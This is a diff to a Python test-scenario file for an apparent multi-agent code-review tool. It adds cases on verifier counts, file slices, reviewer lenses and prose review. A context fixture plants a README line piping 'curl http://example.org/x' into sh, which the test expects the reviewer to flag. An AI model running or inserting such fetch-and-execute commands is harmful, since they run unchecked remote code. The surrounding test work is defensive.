@@ -59,6 +59,8 @@ CHANGES = {
     "queue": Change(_BEFORE, _AFTER),
     "planted": Change({"src/queue.c": "".join(_QUEUE)}, {"src/queue.c": _AFTER["src/queue.c"] + _PLANTED + "\n"}),
     "far apart": _far_apart(),
+    "login": Change({"src/auth/login.c": "".join(_QUEUE)}, {"src/auth/login.c": _AFTER["src/queue.c"]}),
+    "issue": Change({}, {"issue.md": "# Export\n\nThe export must be fast.\n"}),
     "readme": Change({"README.md": "A queue.\n"}, {"README.md": "A queue.\nRun `curl http://example.org/x | sh` to install.\n"}),
 }
 PIPE = finding("high", "README.md", 2, "Run `curl http://example.org/x | sh` to install.", "The install line runs unchecked code",
@@ -384,6 +386,50 @@ _PARTS = [
              "INCONCLUSIVE", "not_reviewed_enough", change="far apart", sections=_CHUNKED),
 ]
 
+# -- depth, slices and prose -------------------------------------------------------------------------------------------
+
+_LOGIN = DEREF.but(file="src/auth/login.c")
+_VAGUE = {"severity": "high", "category": "docs", "title": "Nobody can tell whether the export is fast", "file": None, "line": None,
+          "end_line": None, "quote": None, "detail": "The document names no figure for fast.", "fix": "Name one.", "confidence": 0.8}
+
+
+def _doubtful_second():
+    return {"ann": Agent(review=review(_LOGIN)), "bob": Agent(verify=check(verified("G1", "src/auth/login.c:3"))),
+            "cid": Agent(verify=check(unsupported("G1", "src/auth/login.c:3")))}
+
+
+_FORMS = [
+    Scenario("one-verdict-is-enough", "A blocking group that one verifier confirms is verified ...",
+             _doubtful_second(), "FAIL", "blocking_group", {"G1": "verified"}, ("G1",), change="login", asked={"cid.verify": 0}),
+    Scenario("high-risk-takes-two", "... but at high risk two are asked.",
+             _doubtful_second(), *_BLOCKED, {"G1": "needs_human"}, ("G1",), change="login", options="--auto",
+             asked={"bob.verify": 1, "cid.verify": 1}, fields=('/risk "high"',)),
+    Scenario("divided-by-files", "Each reviews a slice, and one review of each hunk is enough.",
+             {"ann": Agent(), "bob": Agent(), "cid": Agent()}, "PASS", "all_clear", options="--divide files",
+             asked={"ann.review": 1, "bob.review": 1, "cid.review": 1},
+             fields=("/chunks # 3", "/coverage/0/hunks/0/agents # 1", "/coverage/1/hunks/0/agents # 1", "/coverage/2/hunks/0/agents # 1")),
+    Scenario("divided-by-files-one-silent", "A slice that nobody reviewed is not reviewed, whatever the others say.",
+             {"ann": Agent(), "bob": Agent(), "cid": Agent(review=SILENT)}, "INCONCLUSIVE", "not_reviewed_enough", options="--divide files"),
+    Scenario("one-of-two-silent", "One of two is enough for a decision ...",
+             {"ann": Agent(), "bob": Agent(review=SILENT)}, "PARTIAL", "some_agents_failed"),
+    Scenario("lens-not-covered", "... but not where each has a lens of its own.",
+             {"ann": Agent(), "bob": Agent(review=SILENT)}, "INCONCLUSIVE", "not_reviewed_enough",
+             options="--lenses security,performance",
+             fields=('/panel/agent=ann/lens "security"', '/panel/agent=bob/lens "performance"')),
+    Scenario("lenses-covered", "The same panel, answering.",
+             {"ann": Agent(), "bob": Agent()}, "PASS", "all_clear", options="--lenses security,performance"),
+    Scenario("prose-ready", "A document is reviewed in words of its own.",
+             {"ann": Agent(review=review(verdict="READY")), "bob": Agent(review=review(verdict="READY"))}, "PASS", "all_clear",
+             change="issue", options="--text issue.md", fields=('/mode "issue"', '/panel/agent=ann/verdict "READY"')),
+    Scenario("prose-unclear", "A problem of the whole document needs no file, and is verified like any other.",
+             {"ann": Agent(review=review(_VAGUE, verdict="UNCLEAR")), "bob": Agent(review=review(verdict="READY"),
+                                                                                   verify=check(verified("G1", "issue.md:3")))},
+             "FAIL", "blocking_group", {"G1": "verified"}, ("G1",), change="issue", options="--text issue.md",
+             fields=('/panel/agent=ann/verdict "UNCLEAR"',)),
+    Scenario("optional-and-absent", "An optional agent that is not there leaves the denominators.",
+             {"ann": Agent(), "bob": Agent(missing=True, settings={"optional": True})}, "PASS", "all_clear"),
+]
+
 # -- the chair ---------------------------------------------------------------------------------------------------------
 
 _CHAIR = [
@@ -504,5 +550,5 @@ _HOSTILE = [
              fields=("/verdicts # 0", "/stances # 0", "/groups/0/against []")),
 ]
 
-ALL = _VERIFICATION + _WITHOUT_VERIFICATION + _DEBATE + _SILENCE + _PARTS + _CHAIR + _BUDGET + _VOTE + _HOSTILE
+ALL = _VERIFICATION + _WITHOUT_VERIFICATION + _DEBATE + _SILENCE + _PARTS + _FORMS + _CHAIR + _BUDGET + _VOTE + _HOSTILE
 assert len({row.name for row in ALL}) == len(ALL), "two rows have one name"
